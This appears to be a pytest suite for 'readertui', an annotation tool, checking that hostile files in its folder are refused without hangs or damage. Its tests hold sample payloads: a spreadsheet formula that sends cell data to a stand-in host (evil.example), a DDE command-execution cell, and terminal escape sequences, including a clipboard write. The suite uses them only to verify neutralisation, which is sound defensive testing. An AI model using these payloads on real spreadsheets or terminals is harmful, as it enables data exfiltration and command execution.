"""Files someone else put in the folder: sidecars, codebooks, settings and names that are not
what they seem. Each is refused in one line (or shown as text), through the real command, and
nothing hangs, crashes or is written over."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from readertui.article import load_article
from readertui.cli.main import main
from readertui.session import CodingSession
from readertui.store.lock import lock_path
from readertui.store.naming import plain_sidecar
from readertui.study.export_formats import spreadsheet_safe

from conftest import saved
from terminal import Terminal

#: Real commands, pseudo-terminals or many generated inputs: left out of `-m "not slow"`.
pytestmark = pytest.mark.slow


STAMP = "2026-12-07T10:00:00Z"


def sidecar(article: Path, *, coder: object = "bob", note: str = "", name: str = "") -> Path:
    """A sidecar for `article` as another coder (or a hostile one) might leave it."""
    items = load_article(article).items
    records = [
        {"post": {"id": item.id, "kind": item.kind, "handle": item.handle},
         "tags": {"stance": ["support"]}, "note": note}
        for item in items[:2]
    ]  # fmt: skip
    path = article.with_name(name) if name else plain_sidecar(article)
    data = {"format": "readertui-annotations", "version": 1, "coder": coder,
            "article": {"file": article.name}, "annotations": records}  # fmt: skip
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def command(*args: str, timeout: float = 20, **env: str) -> subprocess.CompletedProcess[str]:
    """The real command, without a terminal (what a hang would block is caught by timeout)."""
    return subprocess.run(
        [sys.executable, "-m", "readertui", *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**os.environ, "PYTHONIOENCODING": "utf-8", **env},
        check=False,
    )


# -- spreadsheets ------------------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
    council: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sidecar(council, coder="@SUM(1+1)", note=FORMULA)
    assert main(["export", str(council)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows and all(r["note"] == "'" + FORMULA for r in rows)
    assert all(r["coder"] == "'@SUM(1+1)" for r in rows)
    assert main(["export", str(council), "--raw-cells"]) == 0
    raw = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert all(r["note"] == FORMULA and r["coder"] == "@SUM(1+1)" for r in raw)
    assert main(["export", str(council), "--raw-cells", "--format", "jsonl"]) == 2


@pytest.mark.parametrize(
    ("cell", "shown"),
    [("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
     ("@x", "'@x"), ("\tx", "'\tx"), ("\r=1", "'\r=1"), ("-2", "-2"), ("+1.5e3", "+1.5e3"),
     ("a=b", "a=b"), ("", "")],
)  # fmt: skip
def test_spreadsheet_safe(cell: str, shown: str) -> None:
    assert spreadsheet_safe(cell) == shown


def test_csv_on_a_terminal_carries_no_escape_sequence(council: Path) -> None:
    sidecar(council, coder="ev\x1b]0;TITLE\x07il", note="a\x1b]52;c;UFdORUQ=\x07b \x1b[2J\x9b")
    term = Terminal([sys.executable, "-m", "readertui", "export", str(council)])
    try:
        term.wait_for(b"stance", timeout=20)
        term.settle(0.3)
    finally:
        term.close()
    out = bytes(term.output)
    for raw in (b"\x1b", b"\x07", "\x9b".encode()):
        assert raw not in out
    assert "ev␛]0;TITLE␇il".encode() in out


# -- sidecars that are damaged in ways json accepts ---------------------------------------------
@pytest.mark.parametrize("coder", [["bob"], 5, {"name": "bob"}])
def test_a_sidecar_whose_coder_is_not_text_is_refused_not_taken_as_nobody_s(
    council: Path, coder: object
) -> None:
    path = sidecar(council, coder=coder)
    before = path.read_bytes()
    with CodingSession(load_article(council), coder="k", clock=lambda: STAMP) as s:
        assert s.read_only and "'coder' is not text" in (s.read_only_reason or "")
        assert s.code(0, "1") is None
    assert path.read_bytes() == before


def test_a_lone_surrogate_is_refused_like_any_damage(
    council: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = sidecar(council, name=f"{council.name}.eve.annotations.json")
    bad.write_text(bad.read_text().replace('"note": ""', '"note": "\\ud800"', 1))
    sidecar(council, coder="bob", name=f"{council.name}.bob.annotations.json")
    assert main(["export", str(council)]) == 0
    out, err = capsys.readouterr()
    assert "half of a character" in err and "eve" in err
    assert {r["coder"] for r in csv.DictReader(io.StringIO(out))} == {"bob"}
    with CodingSession(load_article(council), coder="eve", clock=lambda: STAMP) as s:
        assert s.read_only and "half of a character" in (s.read_only_reason or "")
    assert not lock_path(bad).exists()


def test_a_pair_of_surrogate_escapes_is_one_character(council: Path) -> None:
    path = sidecar(council, coder="k")
    path.write_text(path.read_text().replace('"note": ""', '"note": "\\ud83d\\ude00"', 1))
    with CodingSession(load_article(council), coder="k", clock=lambda: STAMP) as s:
        assert not s.read_only
        assert s.annotation(0).note == "😀" or s.annotation(1).note == "😀"


# -- special files are refused before they are opened; nothing hangs ----------------------------
@pytest.fixture
def fifo_folder(council: Path) -> Path:
    """The council article; coded by bob; a FIFO where a sidecar of carol would be."""
    sidecar(council, coder="bob", name=f"{council.name}.bob.annotations.json")
    os.mkfifo(council.with_name(f"{council.name}.carol.annotations.json"))
    return council


@pytest.mark.parametrize("args", [["export"], ["agree"], ["posts"]])
def test_a_fifo_among_the_sidecars_never_blocks_a_command(
    fifo_folder: Path, args: list[str]
) -> None:
    started = time.perf_counter()
    proc = command(*args, str(fifo_folder))
    assert time.perf_counter() - started < 15
    assert "Traceback" not in proc.stderr
    if args != ["posts"]:
        assert "named pipe" in proc.stderr


@pytest.mark.parametrize("where", ["sidecar", "lock", "other sidecar", "codebook", "config"])
def test_a_fifo_never_blocks_the_reader(council: Path, where: str) -> None:
    args = [str(council), "--coder", "k"]
    env: dict[str, str] = {}
    if where == "sidecar":
        os.mkfifo(plain_sidecar(council))
    elif where == "lock":
        os.mkfifo(lock_path(plain_sidecar(council)))
    elif where == "other sidecar":
        os.mkfifo(council.with_name(f"{council.name}.bob.annotations.json"))
    elif where == "codebook":
        os.mkfifo(council.with_name("book.toml"))
        args += ["--codebook", str(council.with_name("book.toml"))]
    else:
        os.mkfifo(council.with_name("config.toml"))
        env["READERTUI_CONFIG"] = str(council.with_name("config.toml"))
    if where in ("codebook", "config"):  # refused on the command line, before the screen
        proc = command(*args, timeout=20, **env)
        assert proc.returncode == 1 and proc.stderr.count("\n") == 1
        assert "named pipe" in proc.stderr
        return
    term = Terminal([sys.executable, "-m", "readertui", *args])
    try:
        term.wait_for(b"coded", timeout=20)  # the reader is up
        if where != "other sidecar":
            term.wait_for(b"READ-ONLY", timeout=10)
        term.send(b"q")
        deadline = time.perf_counter() + 10
        while term.proc.poll() is None and time.perf_counter() < deadline:
            term.read(0.1)
        assert term.proc.returncode == 0
    finally:
        term.close()


@pytest.mark.parametrize("path", ["/dev/zero", "/dev/urandom"])
def test_a_device_as_codebook_or_settings_is_refused_at_once(path: str, council: Path) -> None:
    proc = command(str(council), "--codebook", path, timeout=10)
    assert proc.returncode == 1 and "is a device" in proc.stderr
    proc = command(str(council), timeout=10, READERTUI_CONFIG=path)
    assert proc.returncode == 1 and "is a device" in proc.stderr


def test_a_huge_sidecar_is_refused_by_its_size(council: Path) -> None:
    path = plain_sidecar(council)
    with path.open("wb") as f:
        f.truncate(65 << 20)  # sparse: 65 MB of nothing, read in no time if it were read
    with CodingSession(load_article(council), coder="k", clock=lambda: STAMP) as s:
        assert s.read_only and "too large" in (s.read_only_reason or "")
    assert path.stat().st_size == 65 << 20


# -- names ---------------------------------------------------------------------------------
def test_a_file_name_that_is_not_utf8_is_coded_and_exported(tmp_path: Path) -> None:
    name = os.fsdecode(b"caf\xe9.txt")
    article = tmp_path / name
    article.write_bytes((Path(__file__).parent / "fixtures" / "five-posts.txt").read_bytes())
    with CodingSession(load_article(article), coder="k", clock=lambda: STAMP) as s:
        assert saved(s.code(0, "1")).ok
    stored = json.loads(plain_sidecar(article).read_bytes())
    assert stored["article"]["file"] == "caf\\xe9.txt"
    with CodingSession(load_article(article), coder="k", clock=lambda: STAMP) as s:
        assert not s.read_only and s.annotation(0).is_coded  # the same name next time
    proc = command("export", str(tmp_path))
    assert proc.returncode == 0 and "caf\\xe9.txt,Rosa_Delgado" not in proc.stderr
    assert proc.stdout.splitlines()[1].startswith("caf\\xe9.txt,")


@pytest.mark.parametrize(
    "coder", ["\x1b]0;x\x07", " ", os.fsdecode(b"\xff"), "a\nb", "a\tb", "x" * 5000]
)
def test_a_coder_name_must_be_printable_text(council: Path, coder: str) -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "readertui", str(council), "--coder", coder],
        capture_output=True,
        timeout=20,
        check=False,
    )
    assert proc.returncode == 1 and proc.stderr.count(b"\n") == 1
    assert b"\x1b" not in proc.stderr and b"--coder" in proc.stderr


# -- messages that say what is true ----------------------------------------------------------------
@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
def test_utf16_without_a_byte_order_mark_is_called_what_it_is(tmp_path: Path, codec: str) -> None:
    path = tmp_path / "story.txt"
    path.write_bytes("A story about the pier.\n".encode(codec))
    proc = command("posts", str(path))
    assert proc.returncode == 1
    assert "UTF-16" in proc.stderr and "binary" not in proc.stderr
